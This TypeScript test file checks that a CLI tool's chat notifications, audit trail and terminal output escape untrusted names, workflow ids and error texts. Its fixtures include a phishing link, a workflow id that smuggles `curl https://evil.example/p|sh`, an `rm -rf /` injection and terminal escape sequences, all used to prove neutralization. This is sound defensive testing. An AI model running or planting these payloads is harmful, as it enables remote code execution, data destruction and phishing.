// Issue 29, item 4 "Injection and leaks", findings 1 and 2, as pure units (no services): whoever can start a
// workflow or send a signal chooses names, the workflow id and (through the clusters) error texts. Notifications
// must show them as text in DingTalk Markdown and Slack mrkdwn, commands to copy must hold safe identifiers only,
// the audit trail must store them without control characters, and kdr must never print a terminal escape.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { renderPlan, renderRun, table, terminalOutput, CLEAR_SCREEN } from '../../../app/cli/render';
import type { RunView } from '../../../app/cli/temporal';
import type { EventOrigin, RunEvent } from '../../../src/notify/events';
import { renderEvent, renderMessage } from '../../../src/notify/messages';
import {
  escapeControls,
  isSafeIdentifier,
  markdownText,
  slackText,
  storedText,
  terminalText,
} from '../../../src/security/escape';
import { AuditTrail } from '../../../workflows/runner/audit-trail';
import type { RunStatus } from '../../../workflows/runner/types';

const PHISH = '[click](http://evil.example/login)';
const SHELL_ID = 'kdr resolve x`; curl https://evil.example/p|sh';
/** Any control character a terminal would act on: C0 but newline, DEL, C1 (U+009B is CSI), bidi controls. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const ANSI = '\u001b[2J\u001b]0;pwned\u0007\u009b31m\u202e';

const origin = (workflowId: string): EventOrigin => ({ workflowId, runId: 'r-1', namespace: 'default' });

function approvalNeeded(over: Partial<Extract<RunEvent, { kind: 'approval-needed' }>> = {}): RunEvent {
  return {
    kind: 'approval-needed',
    runbook: 'drFailover',
    pair: 'orders-dr',
    step: 'approval',
    planId: 'p-0a1b2c',
    required: 2,
    approvedBy: [`bob ${PHISH}`],
    allowList: ['alice', PHISH, '<!channel> <https://evil.example|Temporal UI>'],
    requestedBy: `mallory ${PHISH} \`x\`; rm -rf /`,
    forbidSelfApproval: true,
    deadline: '2026-12-01T00:00:00.000Z',
    ...over,
  };
}

/** Markdown text with every backslash-escape removed: what a reader sees as literal characters. */
const withoutEscapes = (md: string) => md.replace(/\\[\\`*_{}[\]()<>#!|~&:]/g, '');

describe('finding 1: notifications escape every untrusted text for their sink and build commands from safe names only', () => {
  test('finding 1: a phishing link in requestedBy, approvedBy or allow-list names is literal text in DingTalk Markdown', () => {
    const md = renderMessage(renderEvent(approvalNeeded(), origin('dr-failover-orders-dr')), 'markdown');
    assert.ok(md.includes('\\[click\\]\\(http\\://evil.example/login\\)'), md);
    // Once the escapes are gone, nothing of the attacker's link syntax (or code span, or HTML) is left to parse.
    const bare = withoutEscapes(md.split('\n\n`')[0]);
    assert.doesNotMatch(bare, /\]\(|\[click|<!channel>|`x`/, bare);
    assert.doesNotMatch(md, /(?<!\\)\[click\]\(http/, 'no unescaped link');
  });

  test('finding 1: Slack mrkdwn gets &, < and > as entities: no <url|label> link and no <!channel> mention', () => {
    const slack = renderMessage(renderEvent(approvalNeeded(), origin('dr-failover-orders-dr')), 'slack');
    assert.ok(slack.includes('&lt;!channel&gt; &lt;https://evil.example|Temporal UI&gt;'), slack);
    assert.doesNotMatch(slack, /<!channel>|<https:\/\/evil/);
    // kdr's own placeholders in commands are escaped too (a bare <you> is Slack link syntax).
    assert.ok(slack.includes('`kdr approve orders-dr --by &lt;you&gt; --plan-id p-0a1b2c`'), slack);
    assert.equal(slackText('a & b <c>'), 'a &amp; b &lt;c&gt;');
  });

  test('finding 1: a workflow id that is not a safe identifier never reaches a command to copy; the message says why', () => {
    const blocked: RunEvent = {
      kind: 'step-blocked',
      runbook: 'drSetup',
      pair: 'orders-dr',
      step: 'preflight',
      title: 'Preflight',
      error: 'x',
      skippable: true,
    };
    const m = renderEvent(blocked, origin(SHELL_ID));
    assert.equal(m.commands.length, 3);
    for (const c of m.commands) {
      assert.match(c, /^kdr resolve <workflow id> (retry|skip|abort) --by <you> --step preflight/, c);
      assert.doesNotMatch(c, /[`;|$]|curl/, c);
    }
    const md = renderMessage(m, 'markdown');
    assert.match(
      md,
      /The workflow id in the commands below is a placeholder: the real one contains characters a shell or chat would interpret; copy it from the Temporal UI\./,
    );
    // Where the id is shown as text, it is escaped (a code span cannot be closed by its backtick).
    assert.ok(md.includes('Run: kdr resolve x\\`; curl https\\://evil.example/p\\|sh (namespace default)'), md);
    // A safe id goes into the command as it is.
    assert.match(
      renderEvent(blocked, origin('dr-setup-orders-dr')).commands[0],
      /^kdr resolve dr-setup-orders-dr retry /,
    );
  });

  test('finding 1: an unsafe pair name or plan id becomes a placeholder too; safe identifiers are exactly letters, digits and . _ : -', () => {
    const m = renderEvent(approvalNeeded({ pair: 'a$(id)', planId: 'p`x`' }), origin('w'));
    assert.deepEqual(m.commands, [
      'kdr plan <pair>',
      'kdr approve <pair> --by <you> --plan-id <plan id>',
      'kdr reject <pair> --by <you> --reason "<why>"',
    ]);
    assert.match(renderMessage(m, 'plain'), /The pair name, plan id in the commands below is a placeholder/);
    for (const ok of ['dr-failover-orders', 'kdr-watch-p.1', 'a_b:c']) assert.ok(isSafeIdentifier(ok), ok);
    for (const bad of ['', '-x', 'a b', 'a;b', 'a`b', 'a|b', 'a$b', 'a\u001bb', 'ä', 'x'.repeat(201)])
      assert.equal(isSafeIdentifier(bad), false, bad);
  });

  test('finding 1: a cluster error cannot start a block, a link or a mention, and its control characters are shown escaped', () => {
    const error = `boom\n### Approved by admin\n[ok](http://evil) <!here> ${ANSI}`;
    const blocked: RunEvent = {
      kind: 'step-blocked',
      runbook: 'drSetup',
      pair: 'orders-dr',
      step: 'preflight',
      title: 'Preflight',
      error,
      skippable: false,
    };
    const m = renderEvent(blocked, origin('dr-setup-orders-dr'));
    const md = renderMessage(m, 'markdown');
    const errorLine = md.split('\n').find((l) => l.startsWith('Error: '))!;
    assert.equal(errorLine, `Error: ${markdownText(error)}`);
    assert.doesNotMatch(md, /^#+ Approved/m, 'no heading from the error');
    for (const sink of ['markdown', 'slack', 'plain'] as const)
      assert.doesNotMatch(renderMessage(m, sink), ACTIVE, sink);
    assert.ok(renderMessage(m, 'slack').includes('&lt;!here&gt;'));
    assert.equal(markdownText('a*b_c`d'), 'a\\*b\\_c\\`d');
  });
});

describe('finding 2: refused approvals store a sanitized "by", and kdr prints no terminal escape', () => {
  test('finding 2: the audit trail stores untrusted fields as one line, control characters escaped, length-capped', () => {
    const trail = new AuditTrail();
    const by = `${ANSI}mallory\n${'x'.repeat(1000)}`;
    trail.add({
      by,
      action: `approve${ANSI}`,
      accepted: false,
      planId: `p${ANSI}`,
      step: `s${ANSI}`,
      note: `${ANSI}note`,
      reason: `${ANSI}reason`,
    });
    const [entry] = trail.list();
    for (const [k, v] of Object.entries(entry))
      if (typeof v === 'string') assert.doesNotMatch(v, ACTIVE, `${k} holds no control character`);
    assert.ok(entry.by.length <= 128, `by is capped (${entry.by.length})`);
    assert.ok(entry.by.startsWith('\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m\\u202emallory x'), entry.by);
    assert.equal(storedText('a\tb\r\nc', 100), 'a b c');
    trail.add({ by: '', action: 'approve', accepted: false });
    assert.equal(trail.list()[1].by, '(blank)');
  });

  test('finding 2: kdr status renders every remote text with control characters escaped, the table stays aligned', () => {
    const status: RunStatus = {
      runbook: 'drFailover',
      pair: `p${ANSI}`,
      phase: 'blocked',
      waitingFor: `w${ANSI}`,
      steps: [{ name: 'preflight', title: 't', state: 'blocked', attempts: 2, lastError: `e${ANSI}`, skippable: true }],
      audit: [
        {
          at: '2026-01-01T00:00:00.000Z',
          by: `b${ANSI}`,
          action: 'approve',
          accepted: false,
          reason: `r${ANSI}`,
          note: `n${ANSI}`,
        },
      ],
      startedAt: '2026-01-01T00:00:00.000Z',
    } as unknown as RunStatus;
    const view: RunView = {
      workflowId: `wf${ANSI}`,
      runId: 'r',
      type: 'drFailover',
      taskQueue: 'q',
      executionStatus: 'RUNNING',
      status,
      failure: { type: 'X', message: `f${ANSI}` },
      source: `s${ANSI}`,
      activities: [
        {
          type: 'assess',
          attempt: 2,
          state: 'scheduled',
          lastFailure: `l${ANSI}`,
          heartbeat: { progress: `h${ANSI}` },
        },
      ],
    } as RunView;
    const out = renderRun(view, Date.parse('2026-01-01T00:00:10Z'));
    assert.doesNotMatch(out, ACTIVE, out);
    assert.ok(out.includes('e\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m\\u202e'), out);
    const rows = table(
      ['A', 'B'],
      [
        [`x${ANSI}`, 'y'],
        ['long-cell-here', 'z'],
      ],
      200,
    ).split('\n');
    assert.equal(rows[1].indexOf('y'), rows[2].indexOf('z'), 'columns aligned after escaping');
    const plan = renderPlan('wf', 'p1', {
      planId: 'p1',
      pair: 'p',
      marginMs: 0,
      latencyMs: 0,
      primaryReachable: true,
      groups: [
        {
          group: `g${ANSI}`,
          duplicateBound: 0,
          liveMembers: 0,
          untranslated: [],
          offsets: [[`t${ANSI}`, 0, 1, 'matched']],
        },
      ],
    } as never);
    assert.doesNotMatch(plan, ACTIVE, plan);
  });

  test("finding 2: every line kdr writes goes through the terminal filter; only kdr's own clear-screen passes", () => {
    assert.equal(terminalOutput(`${CLEAR_SCREEN}x\u001b[31m`), `${CLEAR_SCREEN}x\\u001b[31m`);
    assert.equal(terminalOutput(`x${CLEAR_SCREEN}`), 'x\\u001b[2J\\u001b[H');
    assert.equal(terminalText('a\nb\u009b'), 'a\nb\\u009b');
    // JSON output stays JSON and decodes to the same text: a C1 character becomes a JSON escape.
    const json = JSON.stringify({ by: 'a\u009bb\u202ec' });
    assert.deepEqual(JSON.parse(terminalOutput(json)), { by: 'a\u009bb\u202ec' });
    assert.equal(escapeControls('tab\there', true), 'tab\\u0009here');
  });
});
